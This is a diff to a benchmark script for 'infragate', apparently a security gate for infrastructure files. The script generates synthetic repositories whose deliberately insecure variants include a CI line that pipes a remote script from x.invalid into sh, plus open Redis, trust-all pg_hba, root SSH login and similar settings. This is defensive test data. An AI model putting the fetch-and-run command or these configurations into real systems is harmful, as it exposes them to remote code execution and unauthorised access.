@@ -3,15 +3,27 @@
 # files, for changes of 5 and 1,000 Dockerfiles, beside the floor of reading the same blobs with
 # `git diff-tree -r OLD NEW | git cat-file --batch`. Prints a Markdown table (median of RUNS runs).
 #   scripts/bench.sh [RUNS]      (default 7; builds release first, into .build-static)
+# Knobs for trying the script itself on a shared machine: BENCH_BIN=path uses that binary instead of
+# building one; BENCH_QUICK=1 runs once (unless RUNS is given) on the 1,000-file repositories only,
+# with small pathological and secrets inputs. Quick numbers are not benchmark results.
 set -euo pipefail
 cd "$(dirname "$0")/.."
-runs="${1:-7}"
-# Built as servers install it (hooks/README.md): the Swift runtime linked statically, which halves
-# process start-up (about 12 ms of loading shared Swift libraries otherwise).
-swift build -c release --static-swift-stdlib --scratch-path .build-static >/dev/null
-bin="$(swift build -c release --static-swift-stdlib --scratch-path .build-static --show-bin-path)/infragate"
+quick="${BENCH_QUICK:-}"
+runs="${1:-$([ -n "$quick" ] && echo 1 || echo 7)}"
+sizes=$([ -n "$quick" ] && echo 1000 || echo "1000 100000")
+if [ -n "${BENCH_BIN:-}" ]; then
+  bin="$BENCH_BIN"
+else
+  # Built as servers install it (hooks/README.md): the Swift runtime linked statically, which halves
+  # process start-up (about 12 ms of loading shared Swift libraries otherwise).
+  swift build -c release --static-swift-stdlib --scratch-path .build-static >/dev/null
+  bin="$(swift build -c release --static-swift-stdlib --scratch-path .build-static --show-bin-path)/infragate"
+fi
 work="$(mktemp -d)"
 trap 'rm -rf "$work"' EXIT
+# `scan PATH` on disk keeps the compiled secrets database in the user's cache folder: one inside $work,
+# so the run leaves nothing behind (the first scan compiles it, the median sees it loaded).
+export XDG_CACHE_HOME="$work/user-cache"
 
 # Emits a git fast-import stream: commit "base" with $1 files (1,000 of them Dockerfiles in svc*/),
 # then "small" changing 5 Dockerfiles, "large" changing all 1,000 and "push" changing 10, each from base.
@@ -64,7 +76,7 @@ printf 'version: 1\nprotected:\n  refs: ["main"]\n' >"$work/policy.yml"
 echo "| repository | changed Dockerfiles | infragate check (ms) | git diff-tree + cat-file floor (ms) |"
 echo "|---:|---:|---:|---:|"
 hooks=()
-for files in 1000 100000; do
+for files in $sizes; do
   repo="$work/repo-$files"
   git init -q --bare "$repo"
   generate "$files" | git -C "$repo" fast-import --quiet
@@ -85,14 +97,17 @@ echo "| repository | Dockerfiles in the pushed commit | infragate pre-receive, e
 echo "|---:|---:|---:|"
 printf '%s\n' "${hooks[@]}"
 
-# Every kind the gate recognises (issue 11): 1,000 infrastructure files of eight kinds among plain files,
-# NetworkPolicies in their own folder (the Kubernetes rules read the tree for them). Branches change one
-# file of each of five kinds, 50 and all 1,000 files; "k8s10" is 10 commits changing one Deployment each.
+# Every kind the gate recognises (issue 11): 1,000 infrastructure files of sixteen kinds among plain
+# files (Helm values beside a Chart.yaml, kustomizations with their resource, Dependabot, pre-commit,
+# sshd, pg_hba, postgresql, MySQL and Redis configurations, CloudFormation, GitLab CI…), NetworkPolicies
+# in their own folder (the Kubernetes rules read the tree for them). Branches change one file of each of
+# the five classic kinds (mixed5), one of every kind (mixed16), 50 and all 1,000 files; "k8s10" is 10
+# commits changing one Deployment each.
 generate_mixed() {
   local files=$1
   awk -v files="$files" '
   function infra(i, bad,    d, k, body, path) {
-    d = "svc/g" int(i / 100) "/s" i; k = i % 8
+    d = "svc/g" int(i / 100) "/s" i; k = i % 16
     if (k == 0) { path = d "/Dockerfile"; body = bad ? "FROM ubuntu:latest\nUSER root\n" : "FROM alpine:3.20\nUSER 10001\nHEALTHCHECK CMD true\n" }
     if (k == 1) { path = d "/deploy.yaml"; body = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: w" i ", namespace: ns" (i % 10) "}\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: registry.example.com/app:" (bad ? "latest" : "1." i) "\n        securityContext: {privileged: " (bad == 1 ? "true" : "false") ", runAsNonRoot: true, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true}\n" }
     if (k == 2) { path = d "/docker-compose.yml"; body = "services:\n  app:\n    image: registry.example.com/app:1." i "\n    privileged: " (bad ? "true" : "false") "\n" }
@@ -101,8 +116,19 @@ generate_mixed() {
     if (k == 5) { path = d "/template.yaml"; body = "AWSTemplateFormatVersion: \"2010-09-09\"\nResources:\n  B" i ":\n    Type: AWS::S3::Bucket\n    Properties:\n      AccessControl: " (bad ? "PublicRead" : "Private") "\n" }
     if (k == 6) { path = d "/values.yaml"; body = "image:\n  tag: \"" (bad ? "latest" : "1." i) "\"\nsecurityContext:\n  privileged: " (bad ? "true" : "false") "\n" }
     if (k == 7) { path = d "/build.gitlab-ci.yml"; body = "build" i ":\n  image: alpine:3.20\n  script:\n    - " (bad ? "curl -fsSL https://x.invalid/i.sh | sh" : "make") "\n" }
+    if (k == 8) { path = d "/kustomization.yaml"; body = "resources: [app.yaml]\nnamespace: ns" (i % 10) "\n" (bad ? "images:\n- name: registry.example.com/app\n  newTag: latest\n" : "") }
+    if (k == 9) { path = d "/sshd_config"; body = "PermitRootLogin " (bad ? "yes" : "no") "\nPasswordAuthentication " (bad ? "yes" : "no") "\n" }
+    if (k == 10) { path = d "/pg_hba.conf"; body = bad ? "host all all 0.0.0.0/0 trust\n" : "hostssl all all 10.0.0.0/8 scram-sha-256\n" }
+    if (k == 11) { path = d "/postgresql.conf"; body = "ssl = " (bad ? "off" : "on") "\npassword_encryption = scram-sha-256\n" }
+    if (k == 12) { path = d "/my.cnf"; body = "[mysqld]\nlocal-infile = " (bad ? "1" : "0") "\nrequire_secure_transport = ON\n" }
+    if (k == 13) { path = d "/redis.conf"; body = bad ? "bind 0.0.0.0\nprotected-mode no\n" : "bind 127.0.0.1\nprotected-mode yes\n" }
+    if (k == 14) { path = d "/.pre-commit-config.yaml"; body = "repos:\n- repo: " (bad ? "http://example.com/hooks" : "https://github.com/pre-commit/pre-commit-hooks") "\n  rev: " (bad ? "main" : "2c9f875913ee60ca25ce70243dc24d5b6415598c") "\n  hooks: [{id: check-yaml}]\n" }
+    # One Dependabot configuration per repository: every k == 15 writes the same path, the last one stays.
+    if (k == 15) { path = ".github/dependabot.yml"; body = "version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /s" i "\n    schedule: {interval: weekly}\n" (bad ? "    insecure-external-code-execution: allow\n" : "") }
     printf "M 100644 inline %s\ndata %d\n%s\n", path, length(body), body
     if (k == 6 && !bad) { body = "apiVersion: v2\nname: c" i "\nversion: 1.0.0\n"; printf "M 100644 inline %s/Chart.yaml\ndata %d\n%s\n", d, length(body), body }
+    # The resource the kustomization lists, so that it builds (judged as what the kustomization renders).
+    if (k == 8) { body = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: k" i "}\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: registry.example.com/app:1." i "\n"; printf "M 100644 inline %s/app.yaml\ndata %d\n%s\n", d, length(body), body }
   }
   BEGIN {
     plain = files - 1000; if (plain < 0) plain = 0
@@ -117,12 +143,13 @@ generate_mixed() {
       printf "M 100644 inline platform/policies/ns%d.yaml\ndata %d\n%s\n", n, length(body), body
     }
     for (i = 0; i < 1000; i++) infra(i, 0)
-    split("mixed5 mixed50 mixed1000", names, " ")
-    for (b = 1; b <= 3; b++) {
+    split("mixed5 mixed16 mixed50 mixed1000", names, " ")
+    for (b = 1; b <= 4; b++) {
       printf "commit refs/heads/%s\ncommitter bench <bench@infragate.invalid> 1700000100 +0000\ndata 6\nchange\nfrom :1\n", names[b]
       if (b == 1) { for (k = 0; k < 5; k++) infra(k, 1) }
-      if (b == 2) { for (i = 0; i < 50; i++) infra(i, 1) }
-      if (b == 3) { for (i = 0; i < 1000; i++) infra(i, 1) }
+      if (b == 2) { for (k = 0; k < 16; k++) infra(k, 1) }
+      if (b == 3) { for (i = 0; i < 50; i++) infra(i, 1) }
+      if (b == 4) { for (i = 0; i < 1000; i++) infra(i, 1) }
     }
     # A 5,000-file corpus of every kind, judged from an empty base (a first scan of a repository).
     print "commit refs/heads/empty"; print "mark :2"
@@ -131,28 +158,34 @@ generate_mixed() {
     for (i = 0; i < 5000; i++) infra(i, i % 3 == 0)
     for (c = 0; c < 10; c++) {
       printf "commit refs/heads/k8s10\ncommitter bench <bench@infragate.invalid> %d +0000\ndata 6\nchange\n%s", 1700000200 + c, c == 0 ? "from :1\n" : ""
-      infra(c * 8 + 1, 2)
+      infra(c * 16 + 1, 2)
     }
   }'
 }
 
 echo
-echo "| repository (mixed kinds) | changed files | check, cold store (ms) | check, warm store (ms) | git floor (ms) |"
-echo "|---:|---:|---:|---:|---:|"
+# Peak resident memory of one run, in MB (GNU time's %M is in KiB; its last line, after any exit-status note).
+# A failing verdict exits 1, which is a result here, not an error of the script.
+peak_mb() { { /usr/bin/time -f %M "$@" 2>&1 >/dev/null || true; } | tail -1 | awk '{ printf "%.0f", $1 / 1024 }'; }
+
+echo "| repository (mixed kinds) | changed files | check, cold store (ms) | check, warm store (ms) | peak RSS, warm (MB) | git floor (ms) |"
+echo "|---:|---:|---:|---:|---:|---:|"
 k8s_hooks=()
-for files in 1000 100000; do
+for files in $sizes; do
   repo="$work/mixed-$files"
   git init -q --bare "$repo"
   generate_mixed "$files" | git -C "$repo" fast-import --quiet
-  for branch in mixed5 mixed50 mixed1000; do
+  for branch in mixed5 mixed16 mixed50 mixed1000; do
     cold=$(median_ms sh -c "rm -rf '$repo/infragate'; '$bin' check --repo '$repo' --base main --head $branch --format json")
     warm=$(median_ms "$bin" check --repo "$repo" --base main --head "$branch" --format json)
-    echo "| $files files | ${branch#mixed} | $cold | $warm | $(median_ms floor "$repo" main "$branch") |"
+    peak=$(peak_mb "$bin" check --repo "$repo" --base main --head "$branch" --format json)
+    echo "| $files files | ${branch#mixed} | $cold | $warm | $peak | $(median_ms floor "$repo" main "$branch") |"
   done
   if [ "$files" = 1000 ]; then
     corpus_one=$(median_ms env INFRAGATE_JOBS=1 "$bin" check --repo "$repo" --base empty --head corpus5000 --format json)
     corpus_all=$(median_ms "$bin" check --repo "$repo" --base empty --head corpus5000 --format json)
     corpus_floor=$(median_ms floor "$repo" empty corpus5000)
+    corpus_peak=$(peak_mb "$bin" check --repo "$repo" --base empty --head corpus5000 --format json)
   fi
   main=$(git -C "$repo" rev-parse main)
   tip=$(git -C "$repo" rev-parse k8s10)
@@ -162,9 +195,9 @@ for files in 1000 100000; do
   k8s_hooks+=("| $files files | $(median_ms k8s_push) |")
 done
 echo
-echo "| 5,000 files of every kind from an empty base | check, one core (ms) | check, $(nproc) cores (ms) | git floor (ms) |"
-echo "|---|---:|---:|---:|"
-echo "| corpus5000 | $corpus_one | $corpus_all | $corpus_floor |"
+echo "| 5,000 files of every kind from an empty base | check, one core (ms) | check, $(nproc) cores (ms) | peak RSS (MB) | git floor (ms) |"
+echo "|---|---:|---:|---:|---:|"
+echo "| corpus5000 | $corpus_one | $corpus_all | $corpus_peak | $corpus_floor |"
 echo
 echo "| repository (mixed kinds) | pre-receive: 10 commits, one Deployment each (ms) |"
 echo "|---:|---:|"
@@ -294,7 +327,7 @@ for entry in dockerfile:docker-continuations:Dockerfile dockerfile:docker-instru
   mkdir -p "$dir/$(dirname "$name")"
   # Helm values are judged as such beside a Chart.yaml.
   [ "$pack" = helm ] && printf 'apiVersion: v2\nname: bench\nversion: 1.0.0\n' >"$dir/Chart.yaml"
-  pathological "$shape" "$dir/$name" $((1 << 20))
+  pathological "$shape" "$dir/$name" $([ -n "$quick" ] && echo $((1 << 16)) || echo $((1 << 20)))
   bytes=$(wc -c <"$dir/$name")
   ms=$(cd "$dir" && median_ms "$bin" scan --policy "$work/large.yml" --format json -- "$name")
   echo "| $pack | $shape | $bytes | $ms | $(awk -v b="$bytes" -v ms="$ms" 'BEGIN { printf "%.2f", b / 1e6 / (ms / 1000) }') |"
@@ -370,7 +403,7 @@ mkdir -p "$src"
 : >"$src/empty.txt"
 : >"$src/source.txt"
 git ls-files -z Sources | grep -zv '^Sources/Rules/Secrets/' | xargs -0 cat >"$src/once.txt"
-while [ "$(wc -c <"$src/source.txt")" -lt $((16 << 20)) ]; do cat "$src/once.txt" >>"$src/source.txt"; done
+while [ "$(wc -c <"$src/source.txt")" -lt $([ -n "$quick" ] && echo $((1 << 20)) || echo $((16 << 20))) ]; do cat "$src/once.txt" >>"$src/source.txt"; done
 bytes=$(wc -c <"$src/source.txt")
 empty_ms=$(cd "$src" && median_ms "$bin" scan --policy "$work/large.yml" --format json -- empty.txt)
 ms=$(cd "$src" && median_ms "$bin" scan --policy "$work/large.yml" --format json -- source.txt)
